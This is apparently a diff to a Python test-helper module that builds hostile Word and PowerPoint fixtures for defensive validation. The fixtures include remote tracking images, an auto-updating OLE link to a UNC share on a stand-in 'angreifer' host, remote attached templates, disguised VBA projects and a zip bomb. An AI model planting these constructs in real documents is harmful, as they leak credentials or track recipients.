@@ -604,7 +604,7 @@ _REL = "http://schemas.openxmlformats.org/package/2006/relationships"
 
 
 def _zip_umschreiben(quelle: Path, ziel: Path, aendern: dict, neu: dict | None = None) -> None:
-    """Copy a .docx, passing the text of the parts named in `aendern` through their function and
+    """Copy an Office package (.docx, .pptx), passing the text of the parts named in `aendern` through their function and
     adding the parts in `neu` (name → bytes)."""
     with zipfile.ZipFile(quelle) as z:
         teile = {n: z.read(n) for n in z.namelist()}
@@ -718,6 +718,159 @@ def vorlage_mit_makros(quelle: Path, ziel: Path) -> None:
             )
         },
     )
+
+
+def vorlage_mit_vba(quelle: Path, ziel: Path) -> None:
+    """A copy of the Word file `quelle` carrying a VBA project, its content type left as .docx."""
+    _mit_vba(quelle, ziel, "word")
+
+
+def vorlage_mit_fremdinhalt(quelle: Path, ziel: Path) -> None:
+    """A Word template importing an HTML chunk (w:altChunk, aFChunk) whose picture is on a server."""
+    html = b'<html><body><p>Fremdinhalt</p><img src="http://tracker.example.org/chunk.png"></body></html>'
+    _zip_umschreiben(
+        quelle,
+        ziel,
+        {
+            "word/document.xml": _in_den_koerper('<w:altChunk r:id="rIdChunk1"/>'),
+            "word/_rels/document.xml.rels": lambda t: t.replace(
+                "</Relationships>",
+                f'<Relationship Id="rIdChunk1" Type="{_R}/aFChunk" Target="fremd.htm"/></Relationships>',
+            ),
+            "[Content_Types].xml": lambda t: t.replace(
+                "</Types>", '<Override PartName="/word/fremd.htm" ContentType="text/html"/></Types>'
+            ),
+        },
+        {"word/fremd.htm": html},
+    )
+
+
+# --- hostile slide templates (made from a real one by rewriting its zip) -------------------------
+
+_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
+_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
+INHALTSLAYOUT = "ppt/slideLayouts/slideLayout2.xml"
+"""The "Title and Content" layout of the package's folien.pptx."""
+
+
+def _ins_layout(xml: str):
+    """Append `xml` to the shape tree of a layout (declaring r: where it is not yet)."""
+
+    def tun(text: str) -> str:
+        if 'xmlns:r="' not in text.split(">", 2)[1]:
+            text = text.replace("<p:sldLayout ", f'<p:sldLayout xmlns:r="{_R}" ', 1)
+        return text.replace("</p:spTree>", xml + "</p:spTree>", 1)
+
+    return tun
+
+
+def _layout_rels(rid: str, typ: str, ziel: str, layout: str = INHALTSLAYOUT):
+    ordner, name = layout.rsplit("/", 1)
+    return {f"{ordner}/_rels/{name}.rels": lambda t: _rel(t, rid, typ, ziel)}
+
+
+def folien_mit_verknuepftem_bild(quelle: Path, ziel: Path) -> None:
+    """A slide template whose content layout shows a picture linked from a server."""
+    bild = (
+        f'<p:pic xmlns:p="{_P}" xmlns:a="{_A}"><p:nvPicPr><p:cNvPr id="90" name="Logo" descr="Logo"/>'
+        '<p:cNvPicPr/><p:nvPr userDrawn="1"/></p:nvPicPr>'
+        '<p:blipFill><a:blip r:link="rIdFremd1"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
+        '<p:spPr><a:xfrm><a:off x="100000" y="100000"/><a:ext cx="914400" cy="365760"/></a:xfrm>'
+        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
+    )
+    _zip_umschreiben(
+        quelle,
+        ziel,
+        {
+            INHALTSLAYOUT: _ins_layout(bild),
+            **_layout_rels("rIdFremd1", "image", "http://tracker.example.org/logo.png"),
+        },
+    )
+
+
+def folien_mit_ole_verknuepfung(quelle: Path, ziel: Path) -> None:
+    """A slide template whose content layout holds an OLE object linked to a UNC path, updated
+    automatically when the deck is opened."""
+    ole = (
+        f'<p:graphicFrame xmlns:p="{_P}" xmlns:a="{_A}"><p:nvGraphicFramePr><p:cNvPr id="91" name="Tabelle"/>'
+        "<p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>"
+        '<p:xfrm><a:off x="100000" y="600000"/><a:ext cx="1828800" cy="914400"/></p:xfrm>'
+        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
+        '<p:oleObj name="Arbeitsblatt" r:id="rIdFremd2" imgW="1828800" imgH="914400" progId="Excel.Sheet.12">'
+        '<p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
+    )
+    _zip_umschreiben(
+        quelle,
+        ziel,
+        {
+            INHALTSLAYOUT: _ins_layout(ole),
+            **_layout_rels("rIdFremd2", "oleObject", "file://///angreifer/freigabe/tabelle.xlsx"),
+        },
+    )
+
+
+def folien_mit_vorlage_anderswo(quelle: Path, ziel: Path) -> None:
+    """A slide template that names an attached template on a server."""
+    _zip_umschreiben(
+        quelle,
+        ziel,
+        {
+            "ppt/_rels/presentation.xml.rels": lambda t: _rel(
+                t, "rIdFremd3", "attachedTemplate", "http://tracker.example.org/vorlage.potx"
+            )
+        },
+    )
+
+
+def _mit_vba(quelle: Path, ziel: Path, ordner: str, makro_typ: tuple[str, str] | None = None) -> None:
+    rels = f"{ordner}/_rels/{'document' if ordner == 'word' else 'presentation'}.xml.rels"
+    aendern = {
+        rels: lambda t: t.replace(
+            "</Relationships>",
+            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+            'Target="vbaProject.bin"/></Relationships>',
+        ),
+        "[Content_Types].xml": lambda t: t.replace(
+            "</Types>",
+            f'<Override PartName="/{ordner}/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+        ),
+    }
+    if makro_typ is not None:
+        alt, neu = makro_typ
+        vorher = aendern["[Content_Types].xml"]
+        aendern["[Content_Types].xml"] = lambda t: vorher(t).replace(alt, neu)
+    _zip_umschreiben(quelle, ziel, aendern, {f"{ordner}/vbaProject.bin": b"\xd0\xcf\x11\xe0 VBA" * 64})
+
+
+def folien_als_pptm(quelle: Path, ziel: Path) -> None:
+    """A macro-enabled presentation (.pptm) renamed .pptx: a VBA project and PowerPoint's macro
+    content type."""
+    _mit_vba(
+        quelle,
+        ziel,
+        "ppt",
+        (
+            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
+            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
+        ),
+    )
+
+
+def folien_ohne_platzhalterlage(quelle: Path, ziel: Path) -> None:
+    """A slide template whose master body placeholder has no position and size (the content
+    layout's placeholder inherits nothing)."""
+
+    def ohne_lage(text: str) -> str:
+        kopf, rest = text.split('<p:ph type="body" idx="1"/>', 1)
+        anfang, ende = rest.index("<a:xfrm>"), rest.index("</a:xfrm>") + len("</a:xfrm>")
+        return kopf + '<p:ph type="body" idx="1"/>' + rest[:anfang] + rest[ende:]
+
+    _zip_umschreiben(quelle, ziel, {"ppt/slideMasters/slideMaster1.xml": ohne_lage})
+
+
+def paket_als_bombe(quelle: Path, ziel: Path, teil: str, mib: int = 64) -> None:
+    """A copy of an Office package with a part `teil` that inflates from a few KiB to `mib` MiB."""
+    _zip_umschreiben(quelle, ziel, {}, {teil: bytes(mib * 2**20)})
 
 
 def modul_hinzufuegen(projekt: Path, name: str, text: str) -> None:
